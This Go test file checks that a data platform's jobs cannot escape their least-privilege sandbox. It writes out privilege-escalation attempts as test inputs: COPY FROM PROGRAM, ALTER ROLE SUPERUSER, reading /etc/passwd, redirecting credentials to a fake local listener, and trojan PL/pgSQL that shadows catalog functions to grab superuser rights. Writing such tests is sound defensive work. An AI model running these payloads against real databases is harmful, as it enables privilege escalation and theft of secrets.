package lakes_test

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/uuid"
	"github.com/jackc/pgx/v5"
	"github.com/minio/minio-go/v7"

	"github.com/dataenv/dataenv/sidecar/names"
)

// The least-privilege boundary of jobs (issue 11), attacked from a job's own SQL: the real
// sidecar, the real jailed runner, DuckLake on a harness Postgres. On the code before the
// workspace roles and the runner's sandbox every one of these attacks worked: jobs attached as
// the cluster's admin (a superuser on instance) and could attach anything.

// refusedJob runs sql in workspace and returns its error; the job must fail.
func (e *env) refusedJob(workspace, sql string) string {
	e.t.Helper()
	row := e.runRow(workspace, sql)
	if row.Status != "failed" {
		e.t.Fatalf("run in %s succeeded; it must be refused: %s\nresult: %s", workspace, sql, row.Result)
	}
	return deref(row.Error)
}

// noSecretIn fails when text holds a password or key of the harness.
func noSecretIn(t *testing.T, what, text string) {
	t.Helper()
	for _, s := range []string{pg.SuperPassword, s3.SecretKey} {
		if strings.Contains(text, s) {
			t.Fatalf("%s shows a secret: %s", what, text)
		}
	}
}

// A job's credentials cannot read dataenv's secrets, even on the control database itself. The
// authorization layer refuses a binding of the control database (at bind time, and again before
// every attach: CheckBindable); this layer must hold without it: the job runs as its workspace's
// role, and that role, connected to the control database with its own password, reads none of
// the secrets tables.
func TestJobCannotReadTheSecrets(t *testing.T) {
	e, _ := lakeEnv(t, storageKinds[1])
	app := e.setupInstance()
	db := pg.CreateDatabase(t)
	mustExec(t, pg.Connect(t, db), "CREATE TABLE t AS SELECT 1 AS x; GRANT SELECT ON t TO "+pgx.Identifier{app}.Sanitize())
	mustExec(t, e.conn, `SELECT dataenv.add_datatable('prod', 'crm', 'instance', $1)`, db)
	r := e.run("prod", `ATTACH 'datatable://crm' AS c (READ_ONLY);
		SELECT * FROM postgres_query('c', 'SELECT current_user::text, r.rolsuper FROM pg_roles r WHERE r.rolname = current_user')`)
	role := strings.Split(r.rowsText(), ",")[0]
	if !strings.HasPrefix(role, names.WorkspaceRolePrefix) || !strings.HasSuffix(r.rowsText(), ",false") {
		t.Fatalf("the job is connected as %s; want its workspace role, not a superuser", r.rowsText())
	}

	// The binding, inserted past every check of the SQL API: refused before the attach, no secret shown.
	ctl := queryString(t, e.conn, `SELECT current_database()::text`)
	mustExec(t, e.conn, `SET session_replication_role = replica`)
	mustExec(t, e.conn, `INSERT INTO dataenv.datatables (workspace, name, cluster, database) VALUES ('prod', 'ctl', 'instance', $1)`, ctl)
	mustExec(t, e.conn, `RESET session_replication_role`)
	for _, tbl := range []string{"cluster_secrets", "storage_secrets", "workspace_role_secrets"} {
		err := e.refusedJob("prod", "ATTACH 'datatable://ctl' AS c (READ_ONLY); SELECT * FROM c.dataenv."+tbl)
		noSecretIn(t, "the error", err)
	}

	// What the job's role can do on the control database, whatever lets it connect there.
	pw := queryString(t, e.conn, `SELECT password FROM dataenv.workspace_role_secrets WHERE workspace = 'prod' AND cluster = 'instance'`)
	as := pg.ConnectAs(t, role, pw, ctl)
	for _, tbl := range []string{"cluster_secrets", "storage_secrets", "workspace_role_secrets", "clusters", "requests", "installation"} {
		if _, err := as.Exec(context.Background(), "SELECT * FROM dataenv."+tbl); err == nil || !strings.Contains(err.Error(), "permission denied") {
			t.Errorf("the workspace role reads dataenv.%s of the control database: %v", tbl, err)
		}
	}
	if _, err := as.Exec(context.Background(), "CREATE TEMP TABLE x (v text); COPY x FROM PROGRAM 'id'"); err == nil {
		t.Error("the workspace role runs a program on the control cluster")
	}
}

// A job cannot run a program on the database server, nor raise its own privileges.
func TestJobCannotRunAProgram(t *testing.T) {
	e, _ := lakeEnv(t, storageKinds[0])
	for _, stmt := range []string{
		"CREATE TEMP TABLE x (v text); COPY x FROM PROGRAM ''id''",
		"COPY (SELECT 1) TO PROGRAM ''id''",
		"ALTER ROLE CURRENT_USER SUPERUSER",
		"CREATE ROLE escape LOGIN SUPERUSER",
		"SELECT pg_read_file(''/etc/passwd'')",
	} {
		// The wording depends on the PostgreSQL version (15: must be superuser; 16+: permission denied).
		err := e.refusedJob("prod", attachMain+"CALL postgres_execute('__ducklake_metadata_dl', '"+stmt+"')")
		if !strings.Contains(err, "pg_execute_server_program") && !strings.Contains(err, "must be superuser") &&
			!strings.Contains(err, "permission denied") {
			t.Errorf("%s: %s; want a privilege error", stmt, err)
		}
	}
}

// A job attaches what its workspace was given and nothing else; the secret dataenv used for its
// attaches is gone before its SQL runs, so it cannot be sent to another database, host or port,
// and an S3 URL cannot carry the storage's key to another endpoint.
func TestJobCannotAttachWhatItWasNotGiven(t *testing.T) {
	e, url := lakeEnv(t, storageKinds[1])
	other := pg.CreateDatabase(t)
	mustExec(t, pg.Connect(t, other), `CREATE TABLE t AS SELECT 'other' AS v`)
	evil := listenTCP(t)
	_, evilPort, _ := net.SplitHostPort(evil.addr)
	e.run("prod", attachMain+"CREATE TABLE dl.x AS SELECT 1 AS v")
	if got := e.run("prod", attachMain+"SELECT count(*) FROM duckdb_secrets() WHERE type = 'postgres'").rowsText(); got != "0" {
		t.Errorf("postgres secrets left for the job's SQL: %s", got)
	}
	for _, sql := range []string{
		fmt.Sprintf("ATTACH 'dbname=%s' AS o (TYPE postgres, SECRET __dataenv_pg_1); SELECT * FROM o.public.t", other),
		fmt.Sprintf("ATTACH 'host=127.0.0.1 port=%s dbname=x' AS o (TYPE postgres, SECRET __dataenv_pg_1); SELECT 1", evilPort),
		fmt.Sprintf("ATTACH 'dbname=%s' AS o (TYPE postgres); SELECT * FROM o.public.t", other),
		fmt.Sprintf("ATTACH '%s' AS o (TYPE postgres); SELECT * FROM o.public.t", pg.DSN(other)),
		fmt.Sprintf("ATTACH 'ducklake:postgres:dbname=%s' AS o (META_SECRET '__dataenv_pg_1', DATA_PATH 's3://%s/elsewhere/'); SELECT 1",
			other, strings.TrimPrefix(url, "s3://")),
		fmt.Sprintf("SELECT * FROM postgres_scan('host=%s port=%d dbname=%s user=%s', 'public', 't')", pg.Host(), pg.Port(), other, pg.SuperUser),
		fmt.Sprintf("SELECT * FROM postgres_scan('host=127.0.0.1 port=%s dbname=x user=%s', 'public', 't')", evilPort, pg.SuperUser),
		fmt.Sprintf("SELECT * FROM read_parquet('%s/lakes/main/x.parquet?s3_endpoint=127.0.0.1:%s')", url, evilPort),
		fmt.Sprintf("SELECT * FROM read_parquet('%s/not-the-lake/x.parquet')", url),
	} {
		err := e.refusedJob("prod", attachMain+sql)
		noSecretIn(t, "the error of "+sql, err)
		if strings.Contains(err, "other") && strings.Contains(sql, "o.public.t") {
			t.Errorf("%s: %s", sql, err)
		}
	}
	// postgres_scan reached the fake server (the sandbox cannot stop it; it had no password to
	// give: see runner/README.md). Nothing else did: no attach, no S3 request.
	if n := evil.count(); n > 1 {
		t.Errorf("%d connections reached another host; want at most postgres_scan's password-less one", n)
	}
}

// Two workspaces with lakes in one catalog database, and a fork of one: each job reaches its own
// namespace, a fork reads its parent's and writes only its own, and nobody reads or writes
// another workspace's metadata or files.
func TestWorkspacesCannotReachEachOther(t *testing.T) {
	e := newEnv(t)
	url := storageKinds[0].setup(t, e)
	dir := strings.TrimPrefix(url, "file://")
	e.workspace("a", "")
	e.workspace("b", "")
	mustExec(t, e.conn, `SELECT dataenv.add_lake('a', 'main', 'instance', $1, 'st', 'lakes/a', '{"METADATA_SCHEMA": "a_meta"}')`, e.catalog)
	mustExec(t, e.conn, `SELECT dataenv.add_lake('b', 'main', 'instance', $1, 'st', 'lakes/b', '{"METADATA_SCHEMA": "b_meta"}')`, e.catalog)
	e.startSidecar()
	e.materialize("a", "ducklake://main/t", "SELECT 42 AS x", "replace")
	e.materialize("b", "ducklake://main/t", "SELECT 7 AS x", "replace")
	e.workspace("a/dev", "a")
	if got := e.run("a/dev", attachMain+"SELECT x FROM dl.t").rowsText(); got != "42" {
		t.Fatalf("the fork reads its parent's table: %s", got)
	}
	meta := func(alias string) string { return "__ducklake_metadata_" + alias }
	for ws, attacks := range map[string][]string{
		"b": {
			"SELECT * FROM postgres_query('" + meta("dl") + "', 'SELECT * FROM a_meta.ducklake_table')",
			"CALL postgres_execute('" + meta("dl") + "', 'DELETE FROM a_meta.ducklake_snapshot')",
			"CALL postgres_execute('" + meta("dl") + "', 'CREATE TABLE a_meta.planted (x int)')",
			"SELECT * FROM read_parquet('" + dir + "/lakes/a/**/*.parquet')",
			"COPY (SELECT 1 AS x) TO '" + dir + "/lakes/a/planted.parquet'",
			fmt.Sprintf("ATTACH 'ducklake:postgres:dbname=%s' AS other (METADATA_SCHEMA 'a_meta', DATA_PATH '%s/lakes/a/'); SELECT 1", e.catalog, dir),
		},
		"a/dev": {
			"CALL postgres_execute('" + meta("dl") + "', 'COMMIT; DELETE FROM a_meta.ducklake_snapshot')",
			"CALL postgres_execute('" + meta("dl") + "', 'COMMIT; DROP TABLE a_meta.ducklake_table')",
			"CALL postgres_execute('" + meta("dl") + "', 'CREATE TABLE a_meta.planted (x int)')",
			"SELECT * FROM postgres_query('" + meta("dl") + "', 'SELECT * FROM b_meta.ducklake_table')",
			"COPY (SELECT 1 AS x) TO '" + dir + "/lakes/a/planted.parquet'",
		},
	} {
		for _, sql := range attacks {
			e.refusedJob(ws, attachMain+sql)
		}
	}
	// The same through materialize: b's target attach cannot reach a's namespace either.
	row := e.materializeRow("b", "ducklake://main/u",
		"SELECT * FROM postgres_query('"+meta("__dataenv_target")+"', 'SELECT table_id FROM a_meta.ducklake_table')", "replace")
	if row.Status != "failed" || !strings.Contains(deref(row.Error), "permission denied") {
		t.Errorf("materialize in b reading a's metadata: %s %s", row.Status, deref(row.Error))
	}
	if got := e.run("a", attachMain+"SELECT x FROM dl.t").rowsText(); got != "42" {
		t.Fatalf("a's table after the attacks: %s", got)
	}
	if got := e.run("b", attachMain+"SELECT x FROM dl.t").rowsText(); got != "7" {
		t.Fatalf("b's table after the attacks: %s", got)
	}
	if keys := listKeys(t, url, "lakes/a/"); strings.Contains(strings.Join(keys, " "), "planted") {
		t.Fatalf("a file was planted in a's data path: %v", keys)
	}
}

// The trojans: every schema a job's role (or a managed database's owner) can shape gets a
// function that records who runs it and tries to make its caller a superuser, reached through
// views in place of the DuckLake tables the sidecar reads and through functions shadowing the
// catalog functions its privileged connections call. Then every privileged path runs over them:
// namespace and datatable grants, fork namespaces, a fork's live views, a materialize's commit
// check after a crash, the fork's cleanup and its role's drop. Nothing privileged ever runs a
// trojan; the roles that did are workspace roles, on their own objects.
func TestNothingPrivilegedRunsPlantedObjects(t *testing.T) {
	e, _ := lakeEnv(t, storageKinds[0])
	e.setupInstance()
	owner, ownerPW := pg.CreateRole(t, "LOGIN")
	dt := pg.CreateDatabaseOwnedBy(t, owner)
	mustExec(t, e.conn, `SELECT dataenv.add_datatable('prod', 'crm', 'instance', $1)`, dt)
	e.materialize("prod", "ducklake://main/orders", "SELECT 1 AS id", "replace")
	e.workspace("dev", "prod")
	e.materialize("dev", "ducklake://main/own", "SELECT 2 AS id", "replace")

	// The lake catalog's public schema is prod's lake namespace: prod's role plants there.
	e.run("prod", attachMain+"CALL postgres_execute('__ducklake_metadata_dl', "+duckString(trojanSQL("public", true))+")")
	// The owner of a datatable database dataenv reads the catalogs of as a privileged role.
	ownerConn := pg.ConnectAs(t, owner, ownerPW, dt)
	mustExec(t, ownerConn, trojanSQL("public", true))
	// The fork's role plants in its own namespace, in place of the tables the sidecar reads.
	forkSchema := names.ForkLakeSchema("dev", "main")
	e.run("dev", attachMain+"CALL postgres_execute('__ducklake_metadata_dl', "+duckString(trojanSQL(forkSchema, false)+
		viewTrojan(forkSchema, "ducklake_view")+viewTrojan(forkSchema, "ducklake_snapshot_changes"))+")")

	// Privileged paths over all of it.
	e.run("prod", "ATTACH 'datatable://crm' AS crm; SELECT 1")
	e.run("dev", attachMain+"SELECT count(*) FROM dl.orders")
	e.workspace("dev2", "prod")
	e.run("dev2", attachMain+"SELECT count(*) FROM dl.orders")
	e.sidecar.Stop(30 * time.Second)
	e.startSidecar("DATAENV_CRASH_AT=job.materialize.after_write", "DATAENV_CRASH_MARKER_DIR="+t.TempDir())
	var id uuid.UUID
	if err := e.conn.QueryRow(context.Background(), `SELECT dataenv.materialize('dev', 'ducklake://main/again', 'SELECT 3 AS id', 'replace')`).Scan(&id); err != nil {
		t.Fatal(err)
	}
	// A wait for the crash, not a timing assertion: a loaded machine may take long to get there.
	if err := e.sidecar.WaitExit(5 * time.Minute); err != nil {
		t.Fatalf("the sidecar did not die at the crash point: %v; the request: %s", err,
			queryString(t, e.conn, `SELECT status || ' ' || coalesce(error, '') || ' ' || steps::text FROM dataenv.requests WHERE id = $1`, id))
	}
	e.startSidecar()
	if row := e.wait(id); row.Status != "succeeded" {
		t.Fatalf("materialize after the crash: %s %s", row.Status, deref(row.Error))
	}
	for _, f := range []string{"dev", "dev2"} {
		if row := e.dropFork(f); row.Status != "succeeded" {
			t.Fatalf("drop_fork %s: %s %s", f, row.Status, deref(row.Error))
		}
	}

	catalog := pg.Connect(t, e.catalog)
	ran := map[string]int{}
	for _, conn := range []*pgx.Conn{catalog, pg.Connect(t, dt)} {
		// Dropped roles (the forks') are gone from pg_roles: only their names are left to judge by.
		rows, err := conn.Query(context.Background(), `SELECT l.who, coalesce(r.rolsuper OR r.rolcreaterole OR r.rolcreatedb, false)
			FROM public.trojan_log l LEFT JOIN pg_roles r ON r.rolname = l.who`)
		if err != nil {
			t.Fatal(err)
		}
		for rows.Next() {
			var who string
			var privileged bool
			if err := rows.Scan(&who, &privileged); err != nil {
				t.Fatal(err)
			}
			if privileged || who == pg.SuperUser || !strings.HasPrefix(who, names.WorkspaceRolePrefix) {
				t.Errorf("a planted function ran as %s, a privileged role", who)
			}
			ran[who]++
		}
		rows.Close()
	}
	// The fork's views were read (as the fork's role): the trojans were reachable.
	if len(ran) == 0 {
		t.Fatal("no planted function ran at all: the test reached none of them")
	}
	if n := queryString(t, catalog, `SELECT count(*)::text FROM pg_roles WHERE rolsuper AND rolname <> $1 AND rolname LIKE 'dataenv%'`, pg.SuperUser); n != "0" {
		t.Fatalf("%s dataenv roles became superusers", n)
	}
}

// trojanSQL creates, in schema, the trojan (and in public the log, withLog), and functions shadowing the catalog
// functions the sidecar's privileged connections call (they would win over pg_catalog's under a
// search_path that put the schema first).
func trojanSQL(schema string, withLog bool) string {
	s := pgx.Identifier{schema}.Sanitize()
	var b strings.Builder
	if withLog {
		b.WriteString(`CREATE TABLE public.trojan_log (who text, sess text, at timestamptz DEFAULT now());
		GRANT INSERT, SELECT ON public.trojan_log TO PUBLIC;
`)
	}
	fmt.Fprintf(&b, `CREATE OR REPLACE FUNCTION %[1]s.trojan() RETURNS boolean LANGUAGE plpgsql AS $f$
		BEGIN
			INSERT INTO public.trojan_log (who, sess) VALUES (current_user, session_user);
			BEGIN
				EXECUTE format('ALTER ROLE %%I SUPERUSER', session_user);
			EXCEPTION WHEN OTHERS THEN NULL;
			END;
			RETURN true;
		END $f$;
		GRANT EXECUTE ON FUNCTION %[1]s.trojan() TO PUBLIC;
`, s)
	for _, f := range []string{
		"has_table_privilege(name, oid, text) RETURNS boolean",
		"has_schema_privilege(name, text, text) RETURNS boolean",
		"has_database_privilege(name, text, text) RETURNS boolean",
		"obj_description(oid, name) RETURNS text",
		"shobj_description(oid, name) RETURNS text",
		"pg_get_userbyid(oid) RETURNS name",
		"format(text, text) RETURNS text",
		"to_regclass(text) RETURNS regclass",
		"current_setting(text) RETURNS text",
	} {
		name, ret, _ := strings.Cut(f, " RETURNS ")
		fmt.Fprintf(&b, "CREATE OR REPLACE FUNCTION %s.%s RETURNS %s LANGUAGE sql AS $f$ SELECT CASE WHEN %s.trojan() THEN NULL::%s END $f$;\n",
			s, name, ret, s, ret)
	}
	return b.String()
}

// viewTrojan replaces schema.table by a view of it that runs the trojan for every row read.
func viewTrojan(schema, table string) string {
	s, t := pgx.Identifier{schema}.Sanitize(), pgx.Identifier{table}.Sanitize()
	return fmt.Sprintf("ALTER TABLE %[1]s.%[2]s RENAME TO %[3]s; CREATE VIEW %[1]s.%[2]s AS SELECT * FROM %[1]s.%[3]s WHERE %[1]s.trojan();\n",
		s, t, pgx.Identifier{table + "_real"}.Sanitize())
}

func duckString(s string) string { return "'" + strings.ReplaceAll(s, "'", "''") + "'" }

// tcpCounter counts the connections an address receives.
type tcpCounter struct {
	addr string
	mu   sync.Mutex
	n    int
}

func listenTCP(t *testing.T) *tcpCounter {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { l.Close() })
	c := &tcpCounter{addr: l.Addr().String()}
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			c.mu.Lock()
			c.n++
			c.mu.Unlock()
			conn.Close()
		}
	}()
	return c
}

func (c *tcpCounter) count() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.n
}

// The attack of issue 11: the owner of a catalog database dataenv created (its application role,
// which owns public there through pg_database_owner) replaces public.ducklake_metadata by a view
// calling a function of its own before the lake is first attached. The attach runs it, as the
// job's workspace role; nothing privileged does.
func TestCatalogOwnerCannotEscalate(t *testing.T) {
	e := newEnv(t)
	storageKinds[0].setup(t, e)
	e.startSidecar()
	app := e.setupInstance()
	cat := strings.TrimSuffix(pg.NamePrefix(t), "_") + "cat"
	var id uuid.UUID
	if err := e.conn.QueryRow(context.Background(), `SELECT dataenv.create_database('instance', $1)`, cat).Scan(&id); err != nil {
		t.Fatal(err)
	}
	if row := e.wait(id); row.Status != "succeeded" {
		t.Fatalf("create_database: %s %s", row.Status, deref(row.Error))
	}
	e.workspace("prod", "")
	url := queryString(t, e.conn, `SELECT url FROM dataenv.storage_info WHERE name = 'st'`)
	mustExec(t, e.conn, `SELECT dataenv.add_lake('prod', 'main', 'instance', $1, 'st', 'lakes/main')`, cat)
	// The owner makes the lake (so its tables are the owner's), then swaps its metadata table.
	appPW := queryString(t, e.conn, `SELECT app_password FROM dataenv.cluster_secrets WHERE cluster = 'instance'`)
	runOutside(t, fmt.Sprintf("ATTACH 'ducklake:postgres:%s' AS l (DATA_PATH '%s/lakes/main/'); CREATE TABLE l.t AS SELECT 1 AS x",
		pg.DSNAs(app, appPW, cat), strings.TrimPrefix(url, "file://")))
	owner := pg.ConnectAs(t, app, appPW, cat)
	mustExec(t, owner, trojanSQL("public", true)+`ALTER TABLE public.ducklake_metadata RENAME TO ducklake_metadata_real;
		CREATE VIEW public.ducklake_metadata AS SELECT * FROM public.ducklake_metadata_real WHERE public.trojan()`)
	if got := e.run("prod", attachMain+"SELECT x FROM dl.t").rowsText(); got != "1" {
		t.Fatalf("the lake through the planted view: %s", got)
	}
	rows, err := owner.Query(context.Background(), `SELECT DISTINCT who FROM public.trojan_log`)
	if err != nil {
		t.Fatal(err)
	}
	who, err := pgx.CollectRows(rows, pgx.RowTo[string])
	if err != nil {
		t.Fatal(err)
	}
	if len(who) == 0 {
		t.Fatal("the attach never read the planted view")
	}
	for _, w := range who {
		if !strings.HasPrefix(w, names.WorkspaceRolePrefix) {
			t.Errorf("the planted function ran as %s", w)
		}
	}
	if queryString(t, owner, `SELECT count(*)::text FROM pg_roles WHERE rolsuper AND rolname LIKE 'dataenv%'`) != "0" {
		t.Fatal("a dataenv role became a superuser")
	}
}

// With read-only keys on an S3 storage, a fork's job cannot write into its parent's data path:
// neither a new file nor over one of the parent's files, whatever its SQL does (DuckDB's allowed
// directories let it reach the parent's prefix, which it must read). It still reads the parent's
// table and writes its own namespace. Without read-only keys the same write goes through: the
// storage then holds one key pair, which the docs say.
func TestForkJobCannotWriteTheParentsFiles(t *testing.T) {
	e := newEnv(t)
	bucket := s3.Bucket(t)
	roKey, roSecret := s3.ReadOnlyUser(t, bucket)
	creds := fmt.Sprintf(`{"endpoint": "http://%s", "region": %q, "access_key_id": %q, "secret_access_key": %q,
		"read_only_access_key_id": %q, "read_only_secret_access_key": %q}`,
		s3.Endpoint, s3.Region, s3.AccessKey, s3.SecretKey, roKey, roSecret)
	mustExec(t, e.conn, `SELECT dataenv.add_storage('st', $1, $2::jsonb)`, "s3://"+bucket, creds)
	e.workspace("prod", "")
	mustExec(t, e.conn, `SELECT dataenv.add_lake('prod', 'main', 'instance', $1, 'st', 'lakes/main')`, e.catalog)
	e.startSidecar()
	// Enough rows for a parquet file (DuckLake inlines small inserts into its catalog).
	e.materialize("prod", "ducklake://main/orders", "SELECT range AS id FROM range(5000)", "replace")
	e.workspace("dev", "prod")

	var parentFile string
	for _, k := range listKeys(t, "s3://"+bucket, "lakes/main/") {
		if strings.HasSuffix(k, ".parquet") {
			parentFile = k
		}
	}
	if parentFile == "" {
		t.Fatal("the parent's materialize wrote no parquet file")
	}
	before := s3Object(t, bucket, parentFile)
	for _, target := range []string{parentFile, "lakes/main/planted.parquet"} {
		// Attaching the lake puts the parent's prefix among the paths the job may reach (its
		// defer views read there).
		row := e.runRow("dev", attachMain+fmt.Sprintf("COPY (SELECT 42 AS id) TO 's3://%s/%s' (FORMAT parquet)", bucket, target))
		if row.Status == "succeeded" {
			t.Fatalf("the fork's job wrote %s into its parent's data path", target)
		}
		if msg := deref(row.Error); !strings.Contains(msg, "403") && !strings.Contains(strings.ToLower(msg), "access denied") {
			t.Errorf("writing %s: %s, want the store's access denied", target, msg)
		}
	}
	if after := s3Object(t, bucket, parentFile); after != before {
		t.Fatal("the parent's file changed")
	}
	for _, k := range listKeys(t, "s3://"+bucket, "lakes/main/") {
		if strings.HasSuffix(k, "planted.parquet") {
			t.Fatalf("a planted file is in the parent's data path: %s", k)
		}
	}
	// What the fork may do still works: read the parent's table, write its own.
	if got := e.run("dev", attachMain+"SELECT count(*) FROM dl.orders").rowsText(); got != "5000" {
		t.Fatalf("the fork reads %s rows of the parent's table", got)
	}
	e.materialize("dev", "ducklake://main/mine", "SELECT 1 AS id", "replace")
	if got := e.run("dev", attachMain+"SELECT count(*) FROM dl.mine").rowsText(); got != "1" {
		t.Fatalf("the fork's own table has %s rows", got)
	}
}

// s3Object reads an object with the root keys.
func s3Object(t *testing.T, bucket, key string) string {
	t.Helper()
	o, err := s3.Client().GetObject(context.Background(), bucket, key, minio.GetObjectOptions{})
	if err != nil {
		t.Fatal(err)
	}
	defer o.Close()
	b, err := io.ReadAll(o)
	if err != nil {
		t.Fatalf("read %s: %v", key, err)
	}
	return string(b)
}
